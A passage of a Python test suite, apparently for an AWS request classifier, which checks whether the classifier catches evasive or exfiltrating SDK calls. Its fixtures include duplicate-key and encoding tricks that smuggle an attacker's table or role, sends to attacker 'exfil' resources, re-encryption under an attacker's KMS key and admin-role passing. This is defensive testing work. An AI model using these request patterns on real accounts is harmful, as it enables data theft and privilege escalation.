def unreadable_body_cases():
    c = "unreadable-body"
    o_t, a_t = table(PROD, "app-orders"), table(ATTACKER, "exfil")
    item = {"pk": {"S": "order#1"}}
    null_put = nmr(("dynamodb:PutItem", None))

    def put(mutate, params=None):
        return lambda: sdk("dynamodb", "PutItem", params or {"TableName": "app-orders", "Item": item}, mutate=mutate)

    dup_first_ours = ('{"TableName": "app-orders", "Item": {"pk": {"S": "order#1"}}, '
                      f'"TableName": "{a_t}"}}')
    dup_first_attacker = (f'{{"TableName": "{a_t}", "Item": {{"pk": {{"S": "order#1"}}}}, '
                          '"TableName": "app-orders"}')
    case("dynamodb-duplicate-tablename-ours-first", c, "dynamodb", "main",
         "Two TableName keys, ours first and the attacker's last; which one DynamoDB uses is not ours to guess.",
         put(set_body(dup_first_ours)), null_put)
    case("dynamodb-duplicate-tablename-attacker-first", c, "dynamodb", "main",
         "Two TableName keys, the attacker's first and ours last; a last-wins reader would see only ours.",
         put(set_body(dup_first_attacker)), null_put)
    case("dynamodb-escaped-duplicate-tablename", c, "dynamodb", "main",
         "A second key spelled Table\\u004eame is TableName once unescaped and names the attacker's table.",
         put(set_body('{"TableName": "app-orders", "Item": {"pk": {"S": "order#1"}}, '
                      f'"Table\\u004eame": "{a_t}"}}')), null_put)
    case("dynamodb-duplicate-key-nested", c, "dynamodb", "main",
         "A duplicate key anywhere (here inside Item) makes the whole body unreadable, so the table is unknown.",
         put(set_body('{"TableName": "app-orders", "Item": {"pk": {"S": "order#1"}, "pk": {"S": "order#2"}}}')),
         null_put)
    case("dynamodb-bom-prefixed-body", c, "dynamodb", "main",
         "A UTF-8 byte-order mark before the JSON makes the body unreadable even though it names our table.",
         put(edit_body(lambda b: b"\xef\xbb\xbf" + b)), null_put)
    deep65 = _nested_item(31, {"S": "x"})
    deep64 = _nested_item(30, {"L": []})
    assert _depth({"TableName": "app-orders", "Item": deep65}) == 65
    assert _depth({"TableName": "app-orders", "Item": deep64}) == 64
    case("dynamodb-nesting-65-deep", c, "dynamodb", "main",
         "Item nested so the body is 65 objects/arrays deep (the top-level object counts as 1): past the scanner's limit.",
         lambda: sdk("dynamodb", "PutItem", {"TableName": "app-orders", "Item": deep65}), null_put)
    case("dynamodb-nesting-64-deep", c, "dynamodb", "main",
         "Control: a body exactly 64 objects/arrays deep is still read and names our table.",
         lambda: sdk("dynamodb", "PutItem", {"TableName": "app-orders", "Item": deep64}),
         allow(("dynamodb:PutItem", o_t)), null_put)
    case("dynamodb-concatenated-json", c, "dynamodb", "main",
         "Two JSON documents back to back, ours first and the attacker's second: not one valid JSON value.",
         put(edit_body(lambda b: b + f'{{"TableName": "{a_t}", "Item": {{"pk": {{"S": "x"}}}}}}'.encode())),
         null_put)
    case("dynamodb-trailing-comma", c, "dynamodb", "main",
         "Invalid JSON (a trailing comma) naming our table: AWS may reject or repair it, so nothing is read.",
         put(set_body('{"TableName": "app-orders", "Item": {"pk": {"S": "order#1"}},}')), null_put)
    case("dynamodb-content-type-text-plain", c, "dynamodb", "main",
         "Content-Type text/plain on a JSON-protocol call: the body is not parsed as the service's JSON.",
         put(set_header("Content-Type", "text/plain")), null_put)
    case("dynamodb-content-type-application-json", c, "dynamodb", "main",
         "Content-Type application/json is not a json-protocol content type (only rest-json accepts it).",
         put(set_header("Content-Type", "application/json")), null_put)
    case("dynamodb-content-encoding-gzip", c, "dynamodb", "main",
         "A gzip-encoded body naming the attacker's table: the classifier does not decode it, so the table is unknown.",
         put(chain(set_body(json.dumps({"TableName": a_t, "Item": item}).encode()),
                   edit_body(lambda b: gzip.compress(b, compresslevel=9, mtime=0)),
                   set_header("Content-Encoding", "gzip"))), null_put)
    case("dynamodb-content-encoding-identity", c, "dynamodb", "main",
         "Control: Content-Encoding identity leaves the body readable.",
         put(set_header("Content-Encoding", "identity")), allow(("dynamodb:PutItem", o_t)), null_put)
    case("sqs-json-duplicate-queueurl", c, "sqs", "main",
         "Two QueueUrl keys, ours then the attacker's: the queue is unknown.",
         lambda: sdk("sqs", "SendMessage", {"QueueUrl": Q_OURS, "MessageBody": "x"},
                     mutate=set_body(f'{{"QueueUrl": "{Q_OURS}", "MessageBody": "x", "QueueUrl": "{Q_ATTACKER}"}}')),
         nmr(("sqs:SendMessage", None)))
    case("kms-bom-prefixed-body", c, "kms", "main",
         "A byte-order mark before an Encrypt body naming our key makes the key unknown.",
         lambda: sdk("kms", "Encrypt", {"KeyId": KEY_OURS, "Plaintext": b"x"},
                     mutate=edit_body(lambda b: b"\xef\xbb\xbf" + b)),
         nmr(("kms:Encrypt", None)))
    case("kms-decrypt-duplicate-keyid", c, "kms", "main",
         "Decrypt with two KeyId keys, ours then the attacker's: the key is unknown.",
         lambda: sdk("kms", "Decrypt", {"CiphertextBlob": b"blob", "KeyId": KEY_OURS},
                     mutate=set_body(f'{{"CiphertextBlob": "YmxvYg==", "KeyId": "{KEY_OURS}", '
                                     f'"KeyId": "{kms_key(ATTACKER, KEY_ATTACKER)}"}}')),
         nmr(("kms:Decrypt", None)))
    case("secretsmanager-duplicate-secretid", c, "secretsmanager", "main",
         "Two SecretId keys, app/db then app/root-credentials: unknown, so the root-secret deny matches.",
         lambda: sdk("secretsmanager", "GetSecretValue", {"SecretId": "app/db"},
                     mutate=set_body('{"SecretId": "app/db", "SecretId": "app/root-credentials"}')),
         by_rule(("secretsmanager:GetSecretValue", None)))
    case("secretsmanager-content-type-text-plain", c, "secretsmanager", "main",
         "GetSecretValue with Content-Type text/plain: the secret is unknown, so the root-secret deny matches.",
         lambda: sdk("secretsmanager", "GetSecretValue", {"SecretId": "app/db"},
                     mutate=set_header("Content-Type", "text/plain")),
         by_rule(("secretsmanager:GetSecretValue", None)))
    cf = {"FunctionName": "app-new", "Role": ROLE_OURS, "Runtime": "python3.12", "Handler": "main.handler",
          "Code": {"ZipFile": b"PK\x05\x06" + b"\x00" * 18}}
    cf_unknown = nmr(("lambda:CreateFunction", None), ("iam:PassRole", None), ("lambda:TagResource", None),
                     ("lambda:PassCapacityProvider", None))
    case("lambda-create-function-text-plain", c, "lambda", "main",
         "CreateFunction (rest-json) with Content-Type text/plain: the function and the role passed are unknown.",
         lambda: sdk("lambda", "CreateFunction", cf, mutate=set_header("Content-Type", "text/plain")), cf_unknown)
    case("lambda-create-function-duplicate-role", c, "lambda", "main",
         "CreateFunction with two Role keys, an app- role then admin: the role passed is unknown.",
         lambda: sdk("lambda", "CreateFunction", cf, mutate=edit_body(
             lambda b: b[:-1] + f', "Role": "{ROLE_ADMIN}"}}'.encode())), cf_unknown)


# --- every-resource ----------------------------------------------------------------------------

def every_resource_cases():
    c = "every-resource"
    o_t, o_t2, a_t = table(PROD, "app-orders"), table(PROD, "app-audit"), table(ATTACKER, "exfil")
    put = {"PutRequest": {"Item": {"pk": {"S": "1"}}}}
    case("dynamodb-batch-write-ours-and-attacker", c, "dynamodb", "main",
         "BatchWriteItem to our table and to the attacker's table ARN: every table must be allowed.",
         lambda: sdk("dynamodb", "BatchWriteItem", {"RequestItems": {"app-orders": [put], a_t: [put]}}),
         nmr(("dynamodb:BatchWriteItem", o_t), ("dynamodb:BatchWriteItem", a_t)),
         nmr(("dynamodb:BatchWriteItem", None)))
    case("dynamodb-batch-write-two-ours", c, "dynamodb", "main",
         "Control: BatchWriteItem to two of our app- tables is allowed, one pair per table.",
         lambda: sdk("dynamodb", "BatchWriteItem", {"RequestItems": {"app-orders": [put], "app-audit": [put]}}),
         allow(("dynamodb:BatchWriteItem", o_t), ("dynamodb:BatchWriteItem", o_t2)),
         nmr(("dynamodb:BatchWriteItem", None)))
    case("dynamodb-batch-get-ours-and-unlisted", c, "dynamodb", "main",
         "BatchGetItem reads an app- table and our billing table, which the policy does not allow.",
         lambda: sdk("dynamodb", "BatchGetItem", {"RequestItems": {
             "app-orders": {"Keys": [{"pk": {"S": "1"}}]}, "billing": {"Keys": [{"pk": {"S": "1"}}]}}}),
         nmr(("dynamodb:BatchGetItem", o_t), ("dynamodb:BatchGetItem", table(PROD, "billing"))),
         nmr(("dynamodb:BatchGetItem", None)))
    case("dynamodb-transact-write-put-ours-delete-attacker", c, "dynamodb", "main",
         "TransactWriteItems puts into our table and deletes from the attacker's: AWS authorizes PutItem and DeleteItem.",
         lambda: sdk("dynamodb", "TransactWriteItems", {"TransactItems": [
             {"Put": {"TableName": "app-orders", "Item": {"pk": {"S": "1"}}}},
             {"Delete": {"TableName": a_t, "Key": {"pk": {"S": "1"}}}}]}),
         nmr(("dynamodb:PutItem", o_t), ("dynamodb:DeleteItem", a_t)), nmr(UNKNOWN))
    case("dynamodb-transact-write-all-ours", c, "dynamodb", "main",
         "Control: a transaction with Put, Update, Delete and ConditionCheck on our tables is allowed, one item action each.",
         lambda: sdk("dynamodb", "TransactWriteItems", {"TransactItems": [
             {"Put": {"TableName": "app-orders", "Item": {"pk": {"S": "1"}}}},
             {"Update": {"TableName": "app-orders", "Key": {"pk": {"S": "2"}}, "UpdateExpression": "SET n = :n",
                         "ExpressionAttributeValues": {":n": {"N": "1"}}}},
             {"Delete": {"TableName": "app-audit", "Key": {"pk": {"S": "3"}}}},
             {"ConditionCheck": {"TableName": "app-audit", "Key": {"pk": {"S": "4"}},
                                 "ConditionExpression": "attribute_exists(pk)"}}]}),
         allow(("dynamodb:PutItem", o_t), ("dynamodb:UpdateItem", o_t), ("dynamodb:DeleteItem", o_t2),
               ("dynamodb:ConditionCheckItem", o_t2)), nmr(UNKNOWN))
    case("dynamodb-transact-get-items-mixed", c, "dynamodb", "main",
         "TransactGetItems reads our table and the attacker's: GetItem on each.",
         lambda: sdk("dynamodb", "TransactGetItems", {"TransactItems": [
             {"Get": {"TableName": "app-orders", "Key": {"pk": {"S": "1"}}}},
             {"Get": {"TableName": a_t, "Key": {"pk": {"S": "1"}}}}]}),
         nmr(("dynamodb:GetItem", o_t), ("dynamodb:GetItem", a_t)), nmr(("dynamodb:GetItem", None)))
    case("dynamodb-transact-get-items-ours", c, "dynamodb", "main",
         "Control: TransactGetItems on two of our tables is allowed.",
         lambda: sdk("dynamodb", "TransactGetItems", {"TransactItems": [
             {"Get": {"TableName": "app-orders", "Key": {"pk": {"S": "1"}}}},
             {"Get": {"TableName": "app-audit", "Key": {"pk": {"S": "1"}}}}]}),
         allow(("dynamodb:GetItem", o_t), ("dynamodb:GetItem", o_t2)), nmr(("dynamodb:GetItem", None)))
    o_k, a_k = kms_key(PROD, KEY_OURS), kms_key(ATTACKER, KEY_ATTACKER)
    re_unknown = nmr(("kms:ReEncryptFrom", None), ("kms:ReEncryptTo", None))
    case("kms-reencrypt-to-attacker", c, "kms", "main",
         "ReEncrypt moves our ciphertext under the attacker's key: ReEncryptFrom on ours and ReEncryptTo on theirs.",
         lambda: sdk("kms", "ReEncrypt", {"CiphertextBlob": b"blob", "SourceKeyId": KEY_OURS,
                                          "DestinationKeyId": a_k}),
         nmr(("kms:ReEncryptFrom", o_k), ("kms:ReEncryptTo", a_k)), re_unknown)
    case("kms-reencrypt-ours", c, "kms", "main",
         "Control: ReEncrypt from one of our keys to another is allowed, two pairs.",
         lambda: sdk("kms", "ReEncrypt", {"CiphertextBlob": b"blob", "SourceKeyId": KEY_OURS,
                                          "DestinationKeyId": KEY_OURS_2}),
         allow(("kms:ReEncryptFrom", o_k), ("kms:ReEncryptTo", kms_key(PROD, KEY_OURS_2))), re_unknown)
    case("kms-reencrypt-without-source-key", c, "kms", "main",
         "ReEncrypt without SourceKeyId: the source key is whatever encrypted the blob, unknown here.",
         lambda: sdk("kms", "ReEncrypt", {"CiphertextBlob": b"blob", "DestinationKeyId": KEY_OURS}),
         nmr(("kms:ReEncryptFrom", None), ("kms:ReEncryptTo", o_k)), re_unknown)
    case("kms-decrypt-without-keyid", c, "kms", "main",
         "Decrypt without KeyId uses the key named inside the ciphertext, unknown here, so no resource allow matches.",
         lambda: sdk("kms", "Decrypt", {"CiphertextBlob": b"blob"}), nmr(("kms:Decrypt", None)))
    case("kms-decrypt-with-keyid-ours", c, "kms", "main",
         "Control: Decrypt naming our key is allowed.",
         lambda: sdk("kms", "Decrypt", {"CiphertextBlob": b"blob", "KeyId": KEY_OURS}),
         allow(("kms:Decrypt", o_k)), nmr(("kms:Decrypt", None)))
    case("sns-publish-topic-and-target-arn", c, "sns", "main",
         "Publish with our TopicArn and the attacker's topic as TargetArn: both are pairs and both must be allowed.",
         lambda: sdk("sns", "Publish", {"TopicArn": TOPIC_OURS, "TargetArn": TOPIC_ATTACKER, "Message": "dump"}),
         nmr(("sns:Publish", TOPIC_OURS), ("sns:Publish", TOPIC_ATTACKER)), nmr(UNKNOWN))
    case("sns-publish-phone-number", c, "sns", "main",
         "Publish by SMS to a phone number names no resource; an allow with resources never matches it.",
         lambda: sdk("sns", "Publish", {"PhoneNumber": "+15555550123", "Message": "dump"}),
         nmr(("sns:Publish", None)), nmr(UNKNOWN))
    a_q, o_q = sqs_arn(ATTACKER, "exfil"), sqs_arn(PROD, "app-jobs")
    entries = [{"Id": "1", "MessageBody": "a"}, {"Id": "2", "MessageBody": "b"}]
    case("sqs-json-send-message-batch-attacker", c, "sqs", "main",
         "SendMessageBatch to the attacker's queue is sqs:SendMessage on that queue.",
         lambda: sdk("sqs", "SendMessageBatch", {"QueueUrl": Q_ATTACKER, "Entries": entries}),
         nmr(("sqs:SendMessage", a_q)), nmr(("sqs:SendMessage", None)))
    case("sqs-json-send-message-batch-ours", c, "sqs", "main",
         "Control: SendMessageBatch to our queue is allowed as sqs:SendMessage.",
         lambda: sdk("sqs", "SendMessageBatch", {"QueueUrl": Q_OURS, "Entries": entries}),
         allow(("sqs:SendMessage", o_q)), nmr(("sqs:SendMessage", None)))
    case("sqs-json-delete-message-batch-ours", c, "sqs", "main",
         "Control: DeleteMessageBatch on our queue is sqs:DeleteMessage.",
         lambda: sdk("sqs", "DeleteMessageBatch", {"QueueUrl": Q_OURS, "Entries": [{"Id": "1", "ReceiptHandle": "rh"}]}),
         allow(("sqs:DeleteMessage", o_q)), nmr(("sqs:DeleteMessage", None)))
    batch_unknown = by_rule(("secretsmanager:BatchGetSecretValue", None), ("secretsmanager:ListSecrets", None),
                            ("secretsmanager:GetSecretValue", None))
    case("secretsmanager-batch-get-with-root", c, "secretsmanager", "main",
         "BatchGetSecretValue of app/db and the root secret: GetSecretValue on the root secret is denied by no-root-secret.",
         lambda: sdk("secretsmanager", "BatchGetSecretValue", {"SecretIdList": ["app/db", "app/root-credentials"]}),
         by_rule(("secretsmanager:BatchGetSecretValue", None),
                 ("secretsmanager:GetSecretValue", secret(PROD, "app/db")),
                 ("secretsmanager:GetSecretValue", secret(PROD, "app/root-credentials"))), batch_unknown)
    a_sec = secret(ATTACKER, "exfil-Zz9Yy8")
    case("secretsmanager-batch-get-with-attacker", c, "secretsmanager", "main",
         "BatchGetSecretValue of ours and an attacker secret ARN; BatchGetSecretValue itself has no resource, so no resource allow covers it.",
         lambda: sdk("secretsmanager", "BatchGetSecretValue", {"SecretIdList": ["app/db", a_sec]}),
         nmr(("secretsmanager:BatchGetSecretValue", None), ("secretsmanager:GetSecretValue", secret(PROD, "app/db")),
             ("secretsmanager:GetSecretValue", a_sec)), batch_unknown)
    case("secretsmanager-batch-get-filters", c, "secretsmanager", "main",
         "BatchGetSecretValue with Filters returns every matching secret, the root one included: GetSecretValue on unknown secrets.",
         lambda: sdk("secretsmanager", "BatchGetSecretValue", {"Filters": [{"Key": "name", "Values": ["app/"]}]}),
         batch_unknown)
    case("kinesis-put-record-attacker-stream-arn", c, "kinesis", "main",
         "PutRecord to a stream ARN in the attacker's account (an ARN-valued member naming a kinesis resource).",
         lambda: sdk("kinesis", "PutRecord", {"StreamARN": f"arn:aws:kinesis:us-east-1:{ATTACKER}:stream/exfil",
                                              "Data": b"dump", "PartitionKey": "p"}),
         nmr(("kinesis:PutRecord", f"arn:aws:kinesis:us-east-1:{ATTACKER}:stream/exfil")),
         nmr(("kinesis:PutRecord", None)))
    sm_arn = f"arn:aws:states:us-east-1:{ATTACKER}:stateMachine:exfil"
    case("stepfunctions-start-execution-attacker", c, "states", "main",
         "StartExecution of a state machine in the attacker's account, named by its ARN in the body.",
         lambda: sdk("stepfunctions", "StartExecution", {"stateMachineArn": sm_arn, "input": '{"dump": 1}'}),
         nmr(("states:StartExecution", sm_arn)), nmr(("states:StartExecution", None)))
    case("lambda-invoke-qualified-ours", c, "lambda", "main",
         "Control: a name with a qualifier (app-worker:live) is the qualified function ARN in our account.",
         lambda: sdk("lambda", "Invoke", {"FunctionName": "app-worker:live", "Payload": b"{}"}),
         allow(("lambda:InvokeFunction", function(PROD, "app-worker:live"))))


# --- dependent-action --------------------------------------------------------------------------

def dependent_action_cases():
    c = "dependent-action"
    dest = s3("app-data", "in/report.csv")
    body = b"id,total\n1,42\n"
    case("s3-copy-object-from-attacker-bucket", c, "s3", "main",
         "CopyObject into our bucket from the attacker's bucket also needs s3:GetObject on the source.",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-data", "Key": "in/report.csv",
                                          "CopySource": {"Bucket": "attacker-drop", "Key": "payload.bin"}}),
         nmr(("s3:PutObject", dest), ("s3:GetObject", s3("attacker-drop", "payload.bin"))))
    case("s3-copy-object-from-unlisted-bucket", c, "s3", "main",
         "CopyObject launders an object of our ledger bucket, which the workload may not read, into an app- bucket.",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-public", "Key": "leak.csv",
                                          "CopySource": {"Bucket": "prod-ledger", "Key": "2026/q3.csv"}}),
         nmr(("s3:PutObject", s3("app-public", "leak.csv")), ("s3:GetObject", s3("prod-ledger", "2026/q3.csv"))))
    case("s3-copy-object-within-app", c, "s3", "main",
         "Control: a copy between app- buckets is allowed; the source key is URL-decoded once (a space).",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-archive", "Key": "c.txt",
                                          "CopySource": {"Bucket": "app-data", "Key": "a b/c.txt"}}),
         allow(("s3:PutObject", s3("app-archive", "c.txt")), ("s3:GetObject", s3("app-data", "a b/c.txt"))))
    case("s3-copy-object-version-ours", c, "s3", "main",
         "Control: copying a version (?versionId= in x-amz-copy-source) needs s3:GetObjectVersion on the source.",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-archive", "Key": "c.txt", "CopySource": {
             "Bucket": "app-data", "Key": "c.txt", "VersionId": "3HL4kqtJlcpXroDTDmJ-rmSpXd3dIbrHY"}}),
         allow(("s3:PutObject", s3("app-archive", "c.txt")), ("s3:GetObjectVersion", s3("app-data", "c.txt"))))
    case("s3-copy-object-version-unlisted", c, "s3", "main",
         "Copying an old version of a ledger object into an app- bucket: s3:GetObjectVersion on a bucket not allowed.",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-public", "Key": "old.csv", "CopySource": {
             "Bucket": "prod-ledger", "Key": "2026/q3.csv", "VersionId": "v1"}}),
         nmr(("s3:PutObject", s3("app-public", "old.csv")), ("s3:GetObjectVersion", s3("prod-ledger", "2026/q3.csv"))))
    ap_src = f"arn:aws:s3:us-east-1:{ATTACKER}:accesspoint/drop/object/payload.bin"
    case("s3-copy-object-access-point-source", c, "s3", "main",
         "The copy source is an access point ARN in the attacker's account; the source pair is that ARN's object.",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-data", "Key": "in/report.csv", "CopySource": ap_src}),
         nmr(("s3:PutObject", dest), ("s3:GetObject", ap_src)))
    case("s3-copy-object-unparseable-source", c, "s3", "main",
         "An x-amz-copy-source with no key cannot be parsed: the source is unknown.",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-data", "Key": "in/report.csv",
                                          "CopySource": {"Bucket": "app-data", "Key": "x"}},
                     mutate=set_header("x-amz-copy-source", "prod-ledger")),
         nmr(("s3:PutObject", dest), ("s3:GetObject", None)))
    case("s3-copy-object-leading-slash-source", c, "s3", "main",
         "Control: S3 accepts a copy source with a leading slash (/bucket/key); it names the same object.",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-archive", "Key": "c.txt",
                                          "CopySource": {"Bucket": "app-data", "Key": "x"}},
                     mutate=set_header("x-amz-copy-source", "/app-data/c.txt")),
         allow(("s3:PutObject", s3("app-archive", "c.txt")), ("s3:GetObject", s3("app-data", "c.txt"))))
    case("s3-upload-part-copy-from-unlisted", c, "s3", "main",
         "UploadPartCopy pulls a part from our ledger bucket into an upload to an app- bucket.",
         lambda: sdk("s3", "UploadPartCopy", {"Bucket": "app-public", "Key": "leak.bin", "PartNumber": 1,
                                              "UploadId": "upload-1",
                                              "CopySource": {"Bucket": "prod-ledger", "Key": "dump.bin"}}),
         nmr(("s3:PutObject", s3("app-public", "leak.bin")), ("s3:GetObject", s3("prod-ledger", "dump.bin"))))
    case("s3-upload-part-copy-within-app", c, "s3", "main",
         "Control: UploadPartCopy between app- buckets is allowed.",
         lambda: sdk("s3", "UploadPartCopy", {"Bucket": "app-archive", "Key": "big.bin", "PartNumber": 2,
                                              "UploadId": "upload-2",
                                              "CopySource": {"Bucket": "app-data", "Key": "big.bin"}}),
         allow(("s3:PutObject", s3("app-archive", "big.bin")), ("s3:GetObject", s3("app-data", "big.bin"))))
    obj = s3("app-data", "reports/q3.csv")
    case("s3-put-object-acl-public-read", c, "s3", "main",
         "PutObject with x-amz-acl public-read also needs s3:PutObjectAcl (allowed on our app- bucket).",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-data", "Key": "reports/q3.csv", "Body": body,
                                         "ACL": "public-read"}),
         allow(("s3:PutObject", obj), ("s3:PutObjectAcl", obj)))
    case("s3-put-object-grant-read-attacker", c, "s3", "main",
         "PutObject granting read to the attacker's canonical user (x-amz-grant-read) is s3:PutObjectAcl too.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-data", "Key": "reports/q3.csv", "Body": body,
                                         "GrantRead": f'id="{ATTACKER_CANONICAL_ID}"'}),
         allow(("s3:PutObject", obj), ("s3:PutObjectAcl", obj)))
    case("s3-put-object-with-tagging", c, "s3", "main",
         "Control: PutObject with x-amz-tagging also needs s3:PutObjectTagging on the object.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-data", "Key": "reports/q3.csv", "Body": body,
                                         "Tagging": "class=public"}),
         allow(("s3:PutObject", obj), ("s3:PutObjectTagging", obj)))
    case("s3-create-multipart-upload-grant-full-control", c, "s3", "main",
         "CreateMultipartUpload with x-amz-grant-full-control is s3:PutObject and s3:PutObjectAcl.",
         lambda: sdk("s3", "CreateMultipartUpload", {"Bucket": "app-data", "Key": "big.bin",
                                                     "GrantFullControl": f'id="{ATTACKER_CANONICAL_ID}"'}),
         allow(("s3:PutObject", s3("app-data", "big.bin")), ("s3:PutObjectAcl", s3("app-data", "big.bin"))))
    case("s3-copy-object-acl-and-sse-kms-ours", c, "s3", "main",
         "Control: a copy with an ACL and SSE-KMS under our key's ARN carries four pairs, all allowed.",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-archive", "Key": "c.txt",
                                          "CopySource": {"Bucket": "app-data", "Key": "c.txt"},
                                          "ACL": "bucket-owner-full-control", "ServerSideEncryption": "aws:kms",
                                          "SSEKMSKeyId": kms_key(PROD, KEY_OURS)}),
         allow(("s3:PutObject", s3("app-archive", "c.txt")), ("s3:GetObject", s3("app-data", "c.txt")),
               ("s3:PutObjectAcl", s3("app-archive", "c.txt")), ("kms:GenerateDataKey", kms_key(PROD, KEY_OURS))))
    case("s3-put-object-sse-kms-alias", c, "s3", "main",
         "SSE-KMS with alias/app-s3: S3 uses the key the alias points to, which the request does not name.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-data", "Key": "reports/q3.csv", "Body": body,
                                         "ServerSideEncryption": "aws:kms", "SSEKMSKeyId": "alias/app-s3"}),
         nmr(("s3:PutObject", obj), ("kms:GenerateDataKey", None)))
    a_k = kms_key(ATTACKER, KEY_ATTACKER)
    case("s3-put-object-sse-kms-attacker-key", c, "s3", "main",
         "PutObject encrypted under the attacker's KMS key: only they can decrypt our object afterwards.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-data", "Key": "reports/q3.csv", "Body": body,
                                         "ServerSideEncryption": "aws:kms", "SSEKMSKeyId": a_k}),
         nmr(("s3:PutObject", obj), ("kms:GenerateDataKey", a_k)))
    case("s3-put-object-sse-kms-our-key-id", c, "s3", "main",
         "Control: a bare key id in x-amz-server-side-encryption-aws-kms-key-id is a key in our account and region.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-data", "Key": "reports/q3.csv", "Body": body,
                                         "ServerSideEncryption": "aws:kms", "SSEKMSKeyId": KEY_OURS}),
         allow(("s3:PutObject", obj), ("kms:GenerateDataKey", kms_key(PROD, KEY_OURS))))
    case("s3-put-object-sse-kms-default-key", c, "s3", "main",
         "x-amz-server-side-encryption aws:kms without a key id uses the bucket's default key, unknown here.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-data", "Key": "reports/q3.csv", "Body": body,
                                         "ServerSideEncryption": "aws:kms"}),
         nmr(("s3:PutObject", obj), ("kms:GenerateDataKey", None)))
    case("s3-create-multipart-upload-sse-kms-attacker", c, "s3", "main",
         "CreateMultipartUpload under the attacker's KMS key.",
         lambda: sdk("s3", "CreateMultipartUpload", {"Bucket": "app-data", "Key": "big.bin",
                                                     "ServerSideEncryption": "aws:kms", "SSEKMSKeyId": a_k}),
         nmr(("s3:PutObject", s3("app-data", "big.bin")), ("kms:GenerateDataKey", a_k)))
    case("s3-copy-object-sse-kms-attacker", c, "s3", "main",
         "Re-encrypting our object in place under the attacker's KMS key by copying it onto itself.",
         lambda: sdk("s3", "CopyObject", {"Bucket": "app-data", "Key": "c.txt",
                                          "CopySource": {"Bucket": "app-data", "Key": "c.txt"},
                                          "ServerSideEncryption": "aws:kms", "SSEKMSKeyId": a_k}),
         nmr(("s3:PutObject", s3("app-data", "c.txt")), ("s3:GetObject", s3("app-data", "c.txt")),
             ("kms:GenerateDataKey", a_k)))
    case("s3-delete-objects-protected", c, "s3", "main",
         "DeleteObjects on the protected bucket hides the protected keys in the XML body.",
         lambda: sdk("s3", "DeleteObjects", {"Bucket": "app-protected", "Delete": {"Objects": [
             {"Key": "tmp/a.txt"}, {"Key": "ledger/2026.csv"}]}}),
         by_rule(("s3:DeleteObject", s3("app-protected", "tmp/a.txt")),
                 ("s3:DeleteObject", s3("app-protected", "ledger/2026.csv"))),
         by_rule(("s3:DeleteObject", None)))
    case("s3-delete-objects-ours", c, "s3", "main",
         "Control: DeleteObjects on an app- bucket (one key with a VersionId) is allowed with the body; without it the keys are unknown and the protected-deletes deny matches.",
         lambda: sdk("s3", "DeleteObjects", {"Bucket": "app-data", "Delete": {"Objects": [
             {"Key": "tmp/a.txt"}, {"Key": "tmp/b.txt", "VersionId": "v2"}]}}),
         allow(("s3:DeleteObject", s3("app-data", "tmp/a.txt")),
               ("s3:DeleteObjectVersion", s3("app-data", "tmp/b.txt"))),
         by_rule(("s3:DeleteObject", None)))
    case("s3-delete-objects-version-protected", c, "s3", "main",
         "DeleteObjects of a version of a protected object is s3:DeleteObjectVersion, which the deny's DeleteObject* covers.",
         lambda: sdk("s3", "DeleteObjects", {"Bucket": "app-protected", "Delete": {"Objects": [
             {"Key": "ledger/2026.csv", "VersionId": "v1"}]}}),
         by_rule(("s3:DeleteObjectVersion", s3("app-protected", "ledger/2026.csv"))),
         by_rule(("s3:DeleteObject", None)))
    tags = [{"Key": "team", "Value": "payments"}]
    case("sts-assume-role-with-tags-ours", c, "sts", "main",
         "Control: AssumeRole with session tags also needs sts:TagSession on the role.",
         lambda: sdk("sts", "AssumeRole", {"RoleArn": ROLE_OURS, "RoleSessionName": "job-1", "Tags": tags}),
         allow(("sts:AssumeRole", ROLE_OURS), ("sts:TagSession", ROLE_OURS)), nmr(UNKNOWN))
    case("sts-assume-role-with-tags-attacker", c, "sts", "main",
         "AssumeRole with tags into the attacker's role.",
         lambda: sdk("sts", "AssumeRole", {"RoleArn": ROLE_ATTACKER, "RoleSessionName": "job-1", "Tags": tags}),
         nmr(("sts:AssumeRole", ROLE_ATTACKER), ("sts:TagSession", ROLE_ATTACKER)), nmr(UNKNOWN))
    case("sts-assume-role-source-identity-ours", c, "sts", "main",
         "Control: AssumeRole with SourceIdentity also needs sts:SetSourceIdentity on the role.",
         lambda: sdk("sts", "AssumeRole", {"RoleArn": ROLE_OURS, "RoleSessionName": "job-1",
                                           "SourceIdentity": "alice"}),
         allow(("sts:AssumeRole", ROLE_OURS), ("sts:SetSourceIdentity", ROLE_OURS)), nmr(UNKNOWN))
    case("sts-assume-role-transitive-tags-and-source-identity", c, "sts", "main",
         "Control: tags, transitive tag keys and a source identity give one TagSession and one SetSourceIdentity pair.",
         lambda: sdk("sts", "AssumeRole", {"RoleArn": ROLE_OURS, "RoleSessionName": "job-1", "Tags": tags,
                                           "TransitiveTagKeys": ["team"], "SourceIdentity": "alice"}),
         allow(("sts:AssumeRole", ROLE_OURS), ("sts:TagSession", ROLE_OURS), ("sts:SetSourceIdentity", ROLE_OURS)),
         nmr(UNKNOWN))
    cf = {"FunctionName": "app-new", "Runtime": "python3.12", "Handler": "main.handler",
          "Code": {"ZipFile": b"PK\x05\x06" + b"\x00" * 18}}
    new_fn = function(PROD, "app-new")
    cf_unknown = nmr(("lambda:CreateFunction", None), ("iam:PassRole", None), ("lambda:TagResource", None),
                     ("lambda:PassCapacityProvider", None))
    case("lambda-create-function-attacker-role", c, "lambda", "main",
         "CreateFunction passing a role of the attacker's account: iam:PassRole on that role.",
         lambda: sdk("lambda", "CreateFunction", dict(cf, Role=ROLE_ATTACKER)),
         nmr(("lambda:CreateFunction", new_fn), ("iam:PassRole", ROLE_ATTACKER)), cf_unknown)
    case("lambda-create-function-admin-role", c, "lambda", "main",
         "CreateFunction passing our admin role (privilege escalation): iam:PassRole is allowed only for app- roles.",
